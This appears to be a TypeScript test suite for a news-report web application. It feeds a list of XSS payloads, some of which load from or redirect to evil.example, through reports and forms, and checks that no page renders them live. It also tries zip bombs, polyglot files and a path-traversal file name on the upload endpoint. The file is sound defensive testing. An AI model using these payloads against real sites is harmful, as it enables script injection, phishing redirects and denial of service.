import assert from 'node:assert/strict'
import { mkdtemp, rm } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import { gzipSync } from 'node:zlib'
import { zipSync } from 'fflate'
import { sql } from 'kysely'
import { parseHTML } from 'linkedom'
import { App } from '../../dist/app.js'
import { createDeskDeps } from '../../dist/cli/desk-deps.js'
import { readConfig } from '../../dist/config.js'
import { type DeskDeps, deskRoutes, inChain } from '../../dist/desk/index.js'
import { signedInAs } from '../../dist/desk/testing.js'
import type { Tables } from '../../dist/register.js'
import { reportOf } from '../flow/register.ts'
import { freshDatabase } from '../harness.ts'
import { readSource, sourceFiles } from '../source.ts'

const HOSTILE = [
  '<script>alert(1)</script>',
  '"><script src=//evil.example/x.js></script>',
  "'><img src=x onerror=alert(1)>",
  '<svg/onload=alert(1)>',
  '</textarea><iframe srcdoc="<script>alert(1)</script>">',
  '</title></head><body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name=password>',
  '<style>*{background:url(https://evil.example)}</style>',
  '\u202Eevil\u202C <b onmouseover="alert(1)">',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;',
  '{{constructor.constructor("alert(1)")()}} #{alert(1)}',
  '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
]
const STORY = 'The engineer Stsiapan Dubrouski was released from prison on 3 March 2025, said the lawyer'

let app: App
let deps: DeskDeps
let folder: string
before(async () => {
  folder = await mkdtemp(join(tmpdir(), 'habeas-hostile-'))
  app = new App(readConfig({ HABEAS_DATA: folder }), await freshDatabase<Tables>())
  deps = createDeskDeps(app)
  for (const [n, payload] of HOSTILE.entries()) {
    const head = {
      outlet: `Post ${payload}`,
      title: `News ${n} ${payload}`,
      url: `https://x.example/${payload}`,
      published: '2025-03-04',
    }
    const bytes = reportOf(
      head,
      `${STORY} ${payload}.\n\nAnother ${payload} line with the name Alesia ${payload} Viarbickaja.`,
    )
    await app.add({ bytes, fileName: `${n}.md`, cameFrom: payload })
  }
  await app.settle()
  await inChain(
    deps,
    {
      actor: HOSTILE[0]!,
      act: HOSTILE[1]!,
      object: HOSTILE[2]!,
      details: { a: HOSTILE[3]! },
      values: { b: HOSTILE[4]! },
    },
    async () => 0,
  )
})
after(async () => {
  await app[Symbol.asyncDispose]()
  await rm(folder, { recursive: true, force: true })
})

/** Whatever in a page would run, load or lead somewhere it must not. */
function dangers(html: string): string[] {
  const { document } = parseHTML(html)
  const found: string[] = []
  for (const element of document.querySelectorAll('*')) {
    const name = element.localName
    if (['iframe', 'object', 'embed', 'base', 'style', 'math', 'mglyph'].includes(name)) found.push(`<${name}>`)
    if (name === 'script' && !/^\/assets\/desk\/[0-9a-f]{16}\.js$/.test(element.getAttribute('src') ?? ''))
      found.push('<script>')
    if (name === 'meta' && element.hasAttribute('http-equiv')) found.push('<meta http-equiv>')
    if (name === 'form' && !(element.getAttribute('action') ?? '/').startsWith('/')) found.push('<form> to elsewhere')
    if (name === 'img') found.push('<img>')
    for (const { name: attribute, value } of element.attributes) {
      if (/^on/i.test(attribute) || attribute === 'style' || attribute === 'srcdoc') found.push(`${name} ${attribute}`)
      if (
        ['href', 'src', 'action', 'formaction', 'xlink:href'].includes(attribute) &&
        /^\s*(javascript|data|vbscript):/i.test(value)
      )
        found.push(`${name} ${attribute}="${value}"`)
    }
  }
  return found
}

test('the test would see a hostile text that came through', () => {
  for (const payload of HOSTILE.slice(0, 11))
    assert.ok(dangers(`<!doctype html><html><body>${payload}</body></html>`).length > 0, payload)
})

test('no page of the desk runs, loads or follows what a report, a name or an entry of the audit says', async () => {
  const { rows: reports } = await sql<{ id: string }>`select id from report`.execute(app.database.kysely)
  const ids = reports.map(({ id }) => id)
  assert.ok(ids.length >= 10, `expected the hostile reports to be in the register, saw ${ids.length}`)
  const all = signedInAs(['publisher', 'safety_officer', 'administrator'], deps)
  let pages = 0
  for (const { method, path } of deskRoutes(deps)) {
    if (method !== 'get' || /^\/(sign-in|welcome)/.test(path)) continue
    for (const id of path.includes(':') ? ids : ['']) {
      const answer = await all.get(path.replaceAll(/:\w+(\{[^}]*\})?/g, encodeURIComponent(id)))
      if (!answer.headers.get('content-type')?.startsWith('text/html')) {
        await answer.body?.cancel()
        continue
      }
      assert.deepEqual(dangers(await answer.text()), [], `${path} ${id}`)
      pages++
    }
  }
  assert.ok(pages > ids.length)
})

test('what is sent back to its sender is as harmless', async () => {
  const reader = signedInAs('reader', deps)
  for (const payload of HOSTILE) {
    assert.deepEqual(
      dangers(await (await reader.post('/check', { text: `${STORY} ${payload}. ${payload}` })).text()),
      [],
      payload,
    )
    assert.deepEqual(dangers(await (await reader.get(`/find?q=${encodeURIComponent(payload)}`)).text()), [], payload)
    assert.deepEqual(dangers(await (await reader.get(`/${encodeURIComponent(payload)}`)).text()), [], payload)
  }
})

describe('an upload that is not what it says', () => {
  const zeros = new Uint8Array(9_000_000)
  const zip = zipSync({ 'a.txt': zeros }, { level: 9 })
  const picture = Uint8Array.from([
    0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10, 0, 0, 0, 13, 73, 72, 68, 82, 0x7f, 0xff, 0xff, 0xff, 0x7f, 0xff, 0xff, 0xff,
    8, 6, 0, 0, 0,
  ])
  const text = new TextEncoder()
  const join = (...parts: Uint8Array[]) => Uint8Array.from(parts.flatMap((part) => [...part]))
  const uploads: Readonly<Record<string, readonly [name: string, bytes: Uint8Array]>> = {
    'a zip that swells a thousandfold': ['a.txt', zip],
    'a zip in a zip': ['a.txt', zipSync({ 'b.zip': zipSync({ 'c.zip': zip }) })],
    'a gzip': ['a.txt', gzipSync(zeros)],
    'a picture of two thousand million pixels a side': ['a.html', picture],
    'a picture that goes on as a page': ['a.html', join(picture, text.encode('<script>alert(1)</script>'))],
    'a zip that begins as a page': ['a.html', join(zip.subarray(0, 4), text.encode('<h1>x</h1>'), zip)],
    'a PDF that is a script too': ['a.txt', text.encode('%PDF-1.7\n1 0 obj<</JavaScript(alert(1))>>')],
    'a name that climbs': ['../../../../etc/passwd.exe', text.encode(STORY)],
    'a page with a name of two endings': ['report.txt.svg', text.encode('<svg onload=alert(1)>')],
  }
  for (const [what, [name, bytes]] of Object.entries(uploads))
    test(`is refused in words and in moments: ${what}`, async () => {
      const began = performance.now()
      const memory = process.memoryUsage().rss
      const file = new File([Uint8Array.from(bytes)], name)
      const answer = await signedInAs('reader', deps).post('/check', { file })
      assert.equal(answer.status, 400)
      assert.deepEqual(dangers(await answer.text()), [])
      assert.ok(performance.now() - began < 3000)
      assert.ok(process.memoryUsage().rss - memory < 200_000_000)
    })

  test('is cut off at the limit, whatever length was announced', async () => {
    // Bytes, not a FormData: Node's own form stream rejects unheard when it is cancelled halfway.
    const init = { body: new Uint8Array(11_000_000), headers: { 'content-type': 'multipart/form-data; boundary=x' } }
    assert.equal((await signedInAs('reader', deps).post('/check', {}, init)).status, 413)
    const long = { name: 'x'.repeat(300_000) }
    assert.equal((await signedInAs('reader', deps).post('/work/searches', long)).status, 413)
  })

  test('thousands of nested elements are read or refused, and do not take the desk down', async () => {
    const file = new File([`<html><body>${'<div>'.repeat(50_000)}${STORY}.`], 'a.html')
    const answer = await signedInAs('reader', deps).post('/check', { file })
    assert.ok([200, 400].includes(answer.status), String(answer.status))
  })
})

test('whoever writes a CSV escapes what a spreadsheet would run', () => {
  const writers = sourceFiles().filter((file) => /from 'csv-stringify/.test(readSource(file)))
  assert.ok(writers.length > 0)
  assert.deepEqual(
    writers.filter((file) => !/escape_formulas: true|safeCell|SAFE|formula/.test(readSource(file))),
    [],
  )
})
